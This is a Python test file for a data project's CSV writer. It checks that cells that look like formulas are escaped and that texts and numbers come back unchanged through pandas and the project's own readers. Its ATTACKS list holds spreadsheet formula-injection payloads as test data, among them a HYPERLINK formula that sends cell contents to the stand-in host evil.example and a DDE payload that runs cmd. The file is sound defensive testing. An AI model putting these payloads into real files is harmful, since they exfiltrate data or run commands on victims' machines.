"""CSV files: no cell runs in a spreadsheet, and pandas and our own readers give back the same texts and numbers."""

from __future__ import annotations

import csv
import io
import re

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

from dpcore.app.export import csv_of
from dpcore.cli.output import write
from dpcore.files.csv_writer import frame_text, marked, read_frame, unmarked
from dpcore.files.sheet import open_csv, rows_of
from dpcore.ledger import Ledger, Release, read_ledger, to_csv
from dpcore.site.figures import RenderedFigure
from dpcore.site.tables import plain_columns

RUNS = re.compile(r"[=+\-@\t\r\n＝＋－＠]")
ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"look")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1", "\n=1",
    "'=1", "''=1", "＝1+1", "=", "-", "-x", "--1",
)  # fmt: skip
HARMLESS = ("laplace(1)", "'twas", "a=b", "-1.5", "+2", "-inf", "1e-5", "", " =1", "'-1.5", "ε = 1")
ODD = st.text(st.sampled_from("'=+-@\t\r\n\",; a1.e＝"), max_size=6) | st.text(max_size=8).filter(
    lambda text: "\0" not in text
)


@pytest.mark.parametrize("text", ATTACKS)
def test_a_formula_is_a_text_in_every_file(text: str) -> None:
    frame = pd.DataFrame({"label": [text, "b"], "value": [-1.5, np.inf], text: [1, 2]})
    out = io.StringIO()
    write(frame, out, "csv")
    facts = {"name": "a", "columns": plain_columns(frame)}
    texts = [
        frame_text(frame),
        csv_of(frame).decode(),
        out.getvalue(),
        RenderedFigure(facts, {}, "<svg>", frame_text(pd.DataFrame(plain_columns(frame)))).files[".csv"].decode(),
    ]
    assert len(set(texts)) == 1
    rows = list(csv.reader(io.StringIO(texts[0], newline="")))
    assert not any(RUNS.match(cell) for row in rows for cell in (row[0], row[2]) if cell not in "12")
    assert rows[1][1] == "-1.5"
    pd.testing.assert_frame_equal(read_frame(texts[0]), frame, check_dtype=False)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert marked(text) in (text, f"'{text}")
    assert (marked(text) == text) == (text != "'-1.5")
    assert unmarked(marked(text)) == text


@given(ODD)
def test_every_text_comes_back(text: str) -> None:
    assert unmarked(marked(text)) == text
    try:
        float(text)
    except ValueError:
        assert not RUNS.match(marked(text))


@given(st.lists(st.tuples(ODD, ODD), min_size=1, max_size=5))
def test_our_own_reader_gives_back_what_was_written(cells: list[tuple[str, str]]) -> None:
    frame = pd.DataFrame(cells, columns=["one", "two"], dtype=object)
    rows = rows_of(csv.reader(io.StringIO(frame_text(frame), newline="")))
    assert [tuple(row) for row in rows] == [("one", "two"), *cells]


@given(st.lists(st.floats(allow_nan=False), min_size=1, max_size=5))
def test_numbers_keep_every_bit(values: list[float]) -> None:
    back = read_frame(frame_text(pd.DataFrame({"value": values})))["value"].to_numpy(dtype=float)
    np.testing.assert_array_equal(back, np.array(values))


def test_the_text_is_that_of_pandas_where_nothing_is_a_formula() -> None:
    frame = pd.DataFrame(
        {
            "a": [1, 2, 3],
            "b": [0.1, np.nan, -np.inf],
            "c": ["x", 'y "z"', "u,v\nw"],
            "d": [True, False, None],
            "e": ["", "1", " "],
        }
    )
    assert frame_text(frame) == frame.to_csv(index=False, lineterminator="\n")
    assert frame_text(pd.DataFrame({"a": ["", "b"]})) == 'a\n""\nb\n'
    assert frame_text(frame.iloc[:0]) == "a,b,c,d,e\n"


def test_a_ledger_with_formulas_for_labels_comes_back() -> None:
    ledger = Ledger(tuple(Release(text.strip() or "a", "dp(1)", 2, note=text.strip()) for text in ATTACKS))
    text = to_csv(ledger)
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not any(RUNS.match(cell) for cell in cells)
    assert read_ledger(text).ledger.rows == ledger.rows


def test_an_uploaded_table_has_the_names_we_wrote() -> None:
    assert open_csv(frame_text(pd.DataFrame({"=a": [1.0], "b": [2.0]})).encode()).columns == ("=a", "b")
